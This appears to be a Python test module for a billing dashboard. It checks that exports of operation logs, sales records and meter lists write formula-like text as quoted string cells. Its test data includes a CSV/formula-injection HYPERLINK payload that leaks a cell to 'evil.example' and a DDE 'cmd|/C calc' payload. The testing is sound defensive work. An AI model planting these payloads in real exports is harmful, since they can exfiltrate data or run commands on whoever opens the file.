"""Exports never turn text into formulas: a failed login name, refund reasons, masked holder names, room and
building names and filter text that start with = + - @, a tab or a carriage return come out of every
export (operation log, sales records, meters) as text cells, through the callbacks the browser calls.
A control character in a name exports with a message in the operator's language instead of a 500.
One demo runtime for the module (one day of history)."""
from __future__ import annotations

import base64
import io
import re
import time
import zipfile
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from billing.money import receipt_number
from collectors.profiles import ProfileRegistry
from collectors.topology_import import import_topology
from operators.service import demo_password
from dashboard.i18n import t
from storage import billing as store
from storage.schema import meter
from storage.topology import insert_topology
from tests.conftest import free_port
from tests.webclient import WebClient, base_url, start_demo_runtime

DEMO = demo_password()
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
# One text per prefix a spreadsheet reads as the start of a formula.
DANGEROUS = (HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


@pytest.fixture(scope="module")
def rt(tmp_path_factory):
    runtime = start_demo_runtime(tmp_path_factory.mktemp("export-text"))
    deadline = time.time() + 60
    while time.time() < deadline and not runtime.health()["last_poll"]:
        time.sleep(0.2)
    yield runtime
    runtime.stop()


def _client(rt, username: str, lang: str = "en") -> WebClient:
    client = WebClient(base_url(rt))
    assert client.login(username, DEMO).status == 302
    client.get(f"/lang/{lang}?next=/", follow=False, headers={"Sec-Fetch-Site": "none"})  # typed in: counts
    return client


def _row(building_name: str, room_name: str, gateway_name: str, address: str) -> dict:
    return {"building": building_name, "floor": "1", "room": room_name, "area": "", "gateway": gateway_name,
            "host": "127.0.0.1", "framing": "socket", "bus": "1", "port": str(free_port()), "unit": "1",
            "profile": "acrel-ddsy1352", "meter_address": address}


@pytest.fixture(scope="module")
def site(rt):
    """A meter imported into a room and building named like formulas, with an account held by "=cmd" and one
    refund per dangerous reason; and a meter whose room name holds a NUL and a bell (as a database filled
    before the import refused them: written below the import's checks)."""
    now = rt.billing.now()
    import_topology(rt.engine, [_row("@SUM(A1:A9)", "+cmd|' /C calc'!A0", "GW-FORMULA", "209900000001")],
                    set(ProfileRegistry().names()), now, source="test")
    with rt.engine.begin() as conn:
        raw = _row("Building NUL", "B\x00-1\x0701", "GW-NUL", "209900000002")
        insert_topology(conn, [{**raw, "floor": 1, "bus": 1, "port": int(raw["port"]), "unit": 1}], now)
        ids = dict(conn.execute(sa.select(meter.c.address, meter.c.id)
                                .where(meter.c.address.in_(["209900000001", "209900000002"]))).all())
        room_id = conn.execute(sa.select(meter.c.room_id).where(meter.c.id == ids["209900000001"])).scalar_one()
        account_id = store.insert_account(conn, room_id=room_id, holder_name="=cmd", status="open", opened_at=now,
                                          operator="test")
        store.insert_link(conn, account_id=account_id, meter_id=ids["209900000001"], base_purchase_count=0, now=now,
                          operator="test")
        # Written as stored entries: the desk collapses a reason's whitespace, an older version did not.
        refunds = store.next_entry_ids(conn, len(DANGEROUS))
        store.insert_entries(conn, [
            dict(id=i, receipt_no=receipt_number("refund", i, rt.billing.local_day(now)), kind="refund",
                 amount=Decimal("-1.00"), account_id=account_id, meter_id=ids["209900000001"], purchase_count=n + 1,
                 operator="cashier", reason=reason, source="desk", created_at=now, state="confirmed",
                 confirmed_at=now) for n, (i, reason) in enumerate(zip(refunds, DANGEROUS))])
    return {"formula_meter": ids["209900000001"], "nul_meter": ids["209900000002"], "refunds": refunds}


def _download(response: dict, output: str) -> bytes:
    return base64.b64decode(response[output]["data"]["content"])


def _response(r) -> dict:
    assert r.status == 200, (r.status, r.text[:500])
    return r.json()["response"]


def _sheets_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]


def _assert_text_cells(data: bytes, texts: list[str]) -> None:
    """Each of `texts` is in the workbook as a string cell with Excel's quote prefix, and no sheet holds a
    formula: no <f> element, no cell typed other than inline string, number, boolean or empty."""
    for xml in _sheets_xml(data):
        assert "<f>" not in xml and "<f " not in xml
        assert set(re.findall(r'<c [^>]*?t="([^"]+)"', xml)) <= {"inlineStr", "n", "b"}
    cells = {}
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    cells.setdefault(c.value.replace("\n", "\r"), c)  # XML reads a carriage return as a line feed
    for text in texts:
        cell = cells.get(text.replace("\n", "\r"))
        assert cell is not None, f"{text!r} not in the export"
        assert cell.data_type == "s" and cell.quotePrefix, text


# ---------------------------------------------------------------------------------------------
# operation log

def test_a_failed_login_named_as_a_formula_is_exported_from_the_operation_log_as_text(rt, site):
    anonymous = WebClient(base_url(rt))
    assert anonymous.login(HYPERLINK, "wrong-password").status != 302
    for text in DANGEROUS[1:]:
        rt.accounts.record(text, "test.hostile", text, text, after={"note": text})
    manager = _client(rt, "manager")
    body = _response(manager.callback("audit.export", {"audit-export.n_clicks": 1, "audit-applied.data": {}}))
    _assert_text_cells(_download(body, "audit-download"), list(DANGEROUS))


def test_a_formula_sent_as_the_operator_filter_is_written_as_text_on_the_filters_sheet(rt, site):
    manager = _client(rt, "manager")
    body = _response(manager.callback("audit.export", {"audit-export.n_clicks": 1,
                                                       "audit-applied.data": {"operator": HYPERLINK}}))
    data = _download(body, "audit-download")
    _assert_text_cells(data, [HYPERLINK])
    assert load_workbook(io.BytesIO(data)).worksheets[1]["B1"].value == HYPERLINK


def test_a_nul_in_a_login_name_exports_the_operation_log_with_a_message(rt, site):
    anonymous = WebClient(base_url(rt))
    assert anonymous.login("adm\x00in", "wrong-password").status != 302
    manager = _client(rt, "manager", "zh")
    body = _response(manager.callback("audit.export", {"audit-export.n_clicks": 1,
                                                       "audit-applied.data": {"action": "auth.login_failed"}}))
    rows = list(load_workbook(io.BytesIO(_download(body, "audit-download"))).worksheets[0].values)
    assert ("adm\ufffdin", t("audit.actions.auth.login_failed", "zh")) in {(r[1], r[2]) for r in rows[1:]}
    # the operator's cell; the target was stored printable already (storage.audit writes "adm?in")
    assert t("export.cells_replaced", "zh", n=1) in _text(body["audit-result"]["children"])


# ---------------------------------------------------------------------------------------------
# sales records

def test_refund_reasons_masked_holders_and_place_names_are_exported_from_the_records_as_text(rt, site):
    analyst = _client(rt, "analyst")
    applied = {"from": None, "to": None, "kinds": ["refund"], "operator": None, "building": None, "text": "-1+1"}
    body = _response(analyst.callback("records.export", {"rec-export-request.data": {"ids": site["refunds"]},
                                                         "rec-applied.data": applied}))
    _assert_text_cells(_download(body, "rec-download"),
                       [*DANGEROUS, "=***", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-1+1"])


def test_refunds_are_exported_as_negative_numbers_not_text(rt, site):
    analyst = _client(rt, "analyst")
    body = _response(analyst.callback("records.export", {"rec-export-request.data": {"ids": site["refunds"]},
                                                         "rec-applied.data": {}}))
    ws = load_workbook(io.BytesIO(_download(body, "rec-download"))).worksheets[0]
    amounts = [row[3] for row in ws.iter_rows(min_row=2)]
    assert {(c.data_type, c.number_format) for c in amounts} == {("n", "0.00")}
    assert {Decimal(str(c.value)) for c in amounts} == {Decimal("-1.00")}


# ---------------------------------------------------------------------------------------------
# meters

def test_room_and_building_names_that_look_like_formulas_are_exported_from_the_meters_as_text(rt, site):
    manager = _client(rt, "manager")
    body = _response(manager.callback("meters.export", {"meters-export-request.data": {
        "ids": [site["formula_meter"]], "filter": {"room": {"filter": "=HYPERLINK(1)"}}}}))
    _assert_text_cells(_download(body, "meters-download"), ["+cmd|' /C calc'!A0", "@SUM(A1:A9)"])
    assert t("meters.exported", "en", n=1) == _text(body["meters-message"]["children"])


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_nul_in_a_room_name_exports_the_meters_with_a_message_in_the_operators_language(rt, site, lang):
    manager = _client(rt, "manager", lang)
    r = manager.callback("meters.export", {"meters-export-request.data": {
        "ids": [site["formula_meter"], site["nul_meter"]], "filter": {}}})
    body = _response(r)
    rows = list(load_workbook(io.BytesIO(_download(body, "meters-download"))).worksheets[0].values)
    assert [row[3] for row in rows[1:]] == ["+cmd|' /C calc'!A0", "B\ufffd-1\ufffd01"]
    message = _text(body["meters-message"]["children"])
    assert t("meters.exported", lang, n=2) in message and t("export.cells_replaced", lang, n=1) in message


def _text(node) -> str:
    if isinstance(node, dict):
        return _text(node.get("props", {}).get("children"))
    if isinstance(node, list):
        return "".join(_text(n) for n in node)
    return "" if node is None else str(node)
